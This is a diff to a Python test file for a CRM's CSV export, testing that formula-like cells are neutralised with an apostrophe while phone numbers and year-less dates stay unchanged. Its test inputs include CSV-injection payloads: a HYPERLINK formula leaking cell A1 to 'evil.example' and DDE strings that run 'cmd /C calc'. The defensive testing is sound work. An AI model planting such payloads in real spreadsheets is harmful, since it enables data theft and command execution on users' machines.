@@ -30,10 +30,47 @@ from tests.conftest import NOW
 
 
 @pytest.mark.parametrize(
-    "cell", ["=1+1", '=HYPERLINK("http://x")', "+49 30 1", "-5", "@SUM(A1)", "\tx", "\rx"]
+    "cell",
+    [
+        "=1+1",
+        '=HYPERLINK("http://x")',
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "+49 30 1+cmd|' /C calc'!A0",
+        "+1+1",
+        "+SUM(A1)",
+        "+49 (30 1234",
+        "-1+1",
+        "-5",
+        "--04-22+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "\t+49 30 1234567",
+    ],
 )
 def test_cells_that_would_run_as_formulas_are_neutralised(cell: str) -> None:
     assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+49 170 1234567",
+        "+4917012345678",
+        "+1 (555) 123-4567",
+        "+44.20.7946.0018",
+        "+49 30 1234567 ext. 12",
+        "+49 30 1234567 x12",
+        "+49 30 1234567#3",
+        "--04-22",
+        "--0229",
+        "1990-02-28",
+    ],
+)
+def test_phone_numbers_and_dates_are_written_unchanged(cell: str) -> None:
+    assert neutralise(cell) == cell
 
 
 def test_ordinary_cells_are_left_alone() -> None:
@@ -66,7 +103,7 @@ def test_contacts_csv_has_every_field_and_no_live_formulas(db, services, tmp_pat
     (row,) = _read_csv(path)
     assert row["First Name"] == """'=HYPERLINK("http://x")"""
     assert (row["E-mail 1 - Value"], row["E-mail 2 - Value"]) == ("a@example.com", "b@example.com")
-    assert row["Phone 1 - Value"] == "'+49 30 1234567"  # starts with +: shown as text
+    assert row["Phone 1 - Value"] == "+49 30 1234567"  # a phone: no apostrophe
     assert row["Company"] == "Kaffee Verde" and row["Tags"] == "Local; VIP"
     assert (row["Address 1 - Street"], row["Address 1 - City"]) == ("Hauptstr. 1", "Berlin")
     assert (row["Address 1 - Postal Code"], row["Address 1 - Country"]) == ("10115", "Germany")
@@ -277,3 +314,23 @@ def test_import_all_refuses_what_is_not_a_deskcrm_export(db, tmp_path: Path) -> 
         bad.write_text(content)
         with pytest.raises(DeskCrmError, match=message):
             import_all_json(db, bad)
+
+
+def test_contacts_csv_writes_phones_and_year_less_birthdays_without_an_apostrophe(
+    db, services, tmp_path: Path
+) -> None:
+    services.contacts.create(
+        ContactInput(
+            first_name="-1+1",
+            last_name="Year-less",
+            phones=["+49 170 1234567"],
+            birthday=date(2000, 4, 22),
+            birthday_year_known=False,
+        )
+    )
+    path = tmp_path / "contacts.csv"
+    export_contacts_csv(db, path)
+    (row,) = _read_csv(path)
+    assert row["Phone 1 - Value"] == "+49 170 1234567"
+    assert row["Birthday"] == "--04-22"
+    assert row["First Name"] == "'-1+1"  # still neutralised: not a phone, not a date
